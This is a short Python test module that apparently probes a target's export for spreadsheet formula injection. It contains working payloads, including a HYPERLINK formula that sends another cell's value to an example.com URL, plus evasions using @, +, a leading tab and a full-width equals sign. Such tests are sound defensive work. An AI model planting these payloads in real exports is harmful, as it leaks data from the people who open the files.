"""Attacks by a note that somebody opens in a spreadsheet."""

from prover import Target

from .stage import Stage


def computes(target: Target, stage: Stage, note: str) -> bool:
    exported = target.export([(note, 9.5)])
    print(exported)
    return bool(stage.formulas(exported))


def attack_formula(target: Target, stage: Stage) -> bool:
    """Write a formula that sends another cell elsewhere."""
    return computes(target, stage, '=HYPERLINK("https://example.com/?"&A2,"open")')


def attack_other_signs(target: Target, stage: Stage) -> bool:
    """Begin with a sign that also makes a formula."""
    return computes(target, stage, "@SUM(1+1)") and computes(target, stage, "+1+A2")


def attack_tab_first(target: Target, stage: Stage) -> bool:
    """Put a tab before it, which the spreadsheet drops."""
    return computes(target, stage, "\t=1+A2")


def attack_full_width(target: Target, stage: Stage) -> bool:
    """Use the sign of another width, which some spreadsheets take for the same."""
    return computes(target, stage, "\uff1d1+A2")
